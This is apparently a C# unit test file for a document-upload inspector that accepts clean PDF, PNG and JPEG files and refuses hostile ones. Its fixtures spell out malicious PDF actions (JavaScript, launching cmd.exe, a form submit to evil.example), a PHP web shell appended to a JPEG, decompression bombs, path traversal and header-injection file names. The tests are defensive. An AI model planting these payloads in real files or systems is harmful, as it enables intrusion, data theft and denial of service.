using System.Diagnostics;
using System.Text;
using CsCheck;
using OneStop.Documents.Contracts;
using OneStop.Documents.Files;
using static OneStop.Documents.Tests.Files.FileSamples;

namespace OneStop.Documents.Tests.Files;

public sealed class FileInspectionTests
{
    public static TheoryData<string, byte[], string> Sound => new()
    {
        { "a PDF", Pdf(), "application/pdf" },
        { "a PDF with packed objects", Pdf(ObjectStream("7 0 <</Type/Font>>")), "application/pdf" },
        { "a PDF that speaks of scripts in its text", Pdf("4 0 obj\n(about JavaScript and Launch)\nendobj\n"), "application/pdf" },
        { "a PNG", Png(), "image/png" },
        { "a JPEG", Jpeg(), "image/jpeg" },
    };

    [Theory, MemberData(nameof(Sound), DisableDiscoveryEnumeration = true)]
    public void A_sound_file_is_known_by_its_content(string what, byte[] file, string type)
    {
        Assert.Equal((type, null), FileInspection.Inspect(file));
        Assert.NotEmpty(what);
    }

    public static TheoryData<string, byte[], string> Hostile => new()
    {
        { "nothing", [], Refusal.Empty },
        { "one byte", [0x25], Refusal.TypeNotAllowed },
        { "a program called .pdf", Latin("MZ\u0090\0this program"), Refusal.TypeNotAllowed },
        { "a page of HTML", Latin("<html><script>alert(1)</script>"), Refusal.TypeNotAllowed },
        { "an SVG image", Latin("<svg xmlns='http://www.w3.org/2000/svg'/>"), Refusal.TypeNotAllowed },
        { "a ZIP archive", Latin("PK\u0003\u0004rest"), Refusal.TypeNotAllowed },
        { "a PDF behind other bytes", [.. Latin("GIF89a"), .. Pdf()], Refusal.TypeNotAllowed },
        { "the beginning of a PDF", Latin("%PDF-1.7"), Refusal.Damaged },
        { "a PDF cut in half", Pdf()[..(Pdf().Length / 2)], Refusal.Damaged },
        { "a PDF whose table lies outside", Latin("%PDF-1.7\nstartxref\n99999\n%%EOF"), Refusal.Damaged },
        { "a PDF whose table is a number too large for any computer", Latin("%PDF-1.7\nstartxref\n99999999999999999999999\n%%EOF"), Refusal.Damaged },
        { "a PDF whose table is elsewhere", Latin("%PDF-1.7\nstartxref\n-1\n%%EOF"), Refusal.Damaged },
        { "a PDF and a ZIP at once", [.. Pdf(), .. Latin("PK\u0003\u0004rest")], Refusal.TrailingData },
        { "a PDF and a page at once", [.. Pdf(), .. Latin("<script>alert(1)</script>")], Refusal.TrailingData },
        { "a PDF behind a password", Pdf(trailer: "/Encrypt 9 0 R"), Refusal.Encrypted },
        { "a PDF that runs a script", Pdf(catalog: "/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), Refusal.ActiveContent },
        { "a PDF that runs a script, spelt strangely", Pdf(catalog: "/OpenAction<</S/J#61v#61Script/JS(app.alert(1))>>"), Refusal.ActiveContent },
        { "a PDF that runs a script from packed objects", Pdf(ObjectStream("7 0 <</S/JavaScript/JS(app.alert(1))>>")), Refusal.ActiveContent },
        { "a PDF that runs a script from objects packed in an odd way", Pdf(ObjectStream("x", "/Filter/LZWDecode").Replace("stream\nx", "stream\n!x")), Refusal.ActiveContent },
        { "a PDF that hides an object in a stream of text", Pdf("4 0 obj\n<</Length 40>>\nstream\n7 0 obj <</S/Launch/F(cmd.exe)>> endobj\nendstream\nendobj\n"), Refusal.ActiveContent },
        { "a PDF that starts a program", Pdf(catalog: "/OpenAction<</S/Launch/F(cmd.exe)>>"), Refusal.ActiveContent },
        { "a PDF with a file inside", Pdf(catalog: "/Names<</EmbeddedFiles 4 0 R>>"), Refusal.ActiveContent },
        { "a PDF with a dynamic form", Pdf(catalog: "/AcroForm<</XFA 4 0 R>>"), Refusal.ActiveContent },
        { "a PDF that sends what is typed", Pdf(catalog: "/AA<</S/SubmitForm/F(http://evil.example)>>"), Refusal.ActiveContent },
        { "a PNG without its end", Png()[..^12], Refusal.Damaged },
        { "a PNG with a changed byte", Changed(Png(), 20), Refusal.Damaged },
        { "a PNG of no size", Png(0, 0), Refusal.Damaged },
        { "a PNG's signature alone", Png()[..8], Refusal.Damaged },
        { "a PNG with a chunk longer than the file", [.. Png()[..8], 0xFF, 0xFF, 0xFF, 0xFF, .. Png()[12..]], Refusal.Damaged },
        { "a PNG and a ZIP at once", [.. Png(), .. Latin("PK\u0003\u0004")], Refusal.TrailingData },
        { "a JPEG without its end", Jpeg()[..^2], Refusal.Damaged },
        { "a JPEG's signature alone", Jpeg()[..3], Refusal.Damaged },
        { "a JPEG without a picture", [0xFF, 0xD8, 0xFF, 0xD9], Refusal.Damaged },
        { "a JPEG and a program at once", [.. Jpeg(), .. Latin("<?php system($_GET[0]);")], Refusal.TrailingData },
    };

    [Theory, MemberData(nameof(Hostile), DisableDiscoveryEnumeration = true)]
    public void A_hostile_or_broken_file_is_refused_for_what_it_is(string what, byte[] file, string refusal)
    {
        Assert.Equal(refusal, FileInspection.Inspect(file).Refusal);
        Assert.NotEmpty(what);
    }

    [Fact]
    public void No_bytes_whatever_make_it_fail()
    {
        byte[][] starts = [[], Latin("%PDF-1.7\n"), Png()[..8], Png()[..30], [0xFF, 0xD8, 0xFF], Jpeg()[..25], Pdf()];
        Gen.Select(Gen.Int[0, starts.Length - 1], Gen.Byte.Array[0, 400], Gen.Bool).Sample((start, bytes, ended) =>
        {
            byte[] file = [.. starts[start], .. bytes, .. ended ? Latin("\nstartxref\n9\n%%EOF") : []];

            _ = FileInspection.Inspect(file);
        });
    }

    [Fact]
    public void A_sound_file_with_any_one_byte_changed_never_makes_it_fail()
    {
        byte[][] files = [Pdf(ObjectStream("7 0 <</Type/Font>>")), Png(), Jpeg()];
        Gen.Select(Gen.Int[0, files.Length - 1], Gen.Int[0, 10_000], Gen.Byte).Sample((which, at, value) =>
        {
            var file = (byte[])files[which].Clone();
            file[at % file.Length] = value;

            _ = FileInspection.Inspect(file);
        });
    }

    public static TheoryData<string, byte[]> Expensive => new()
    {
        { "a bomb", Pdf(Stream(Deflate(new byte[40_000_000]))) },
        { "many bombs", Pdf(string.Concat(Enumerable.Repeat(Stream(Deflate(new byte[20_000_000])), 60))) },
        { "endless beginnings of streams", Pdf(string.Concat(Enumerable.Repeat("stream\nx\u009c", 400_000))) },
        { "endless names", Pdf(new string('/', 4_000_000)) },
        { "endless brackets", Pdf(new string('[', 4_000_000)) },
    };

    [Theory, MemberData(nameof(Expensive), DisableDiscoveryEnumeration = true)]
    public void A_file_made_to_exhaust_is_dealt_with_in_seconds(string what, byte[] file)
    {
        var since = Stopwatch.GetTimestamp();

        _ = FileInspection.Inspect(file);

        Assert.True(Stopwatch.GetElapsedTime(since) < TimeSpan.FromSeconds(10), what);
    }

    [Theory]
    [InlineData("articles.pdf", "articles.pdf")]
    [InlineData("../../etc/passwd", "passwd.pdf")]
    [InlineData("C:\\Users\\amy\\細則.PDF", "細則.pdf")]
    [InlineData("invoice\u202Efdp.exe", "invoicefdp.pdf")]
    [InlineData("a\r\nSet-Cookie: x.pdf", "aSet-Cookie x.pdf")]
    [InlineData("<b>\"x\"</b>.pdf", "b.pdf")]
    [InlineData("", "document.pdf")]
    [InlineData("...", "document.pdf")]
    public void A_files_name_is_made_fit_to_show(string name, string expected)
    {
        Assert.Equal(expected, FileName.Clean(name, "application/pdf"));
    }

    private static string Stream(byte[] packed) => $"4 0 obj\n<</Filter/FlateDecode/Length {packed.Length}>>\nstream\n{Encoding.Latin1.GetString(packed)}\nendstream\nendobj\n";

    private static byte[] Changed(byte[] file, int at)
    {
        file[at] ^= 1;
        return file;
    }
}
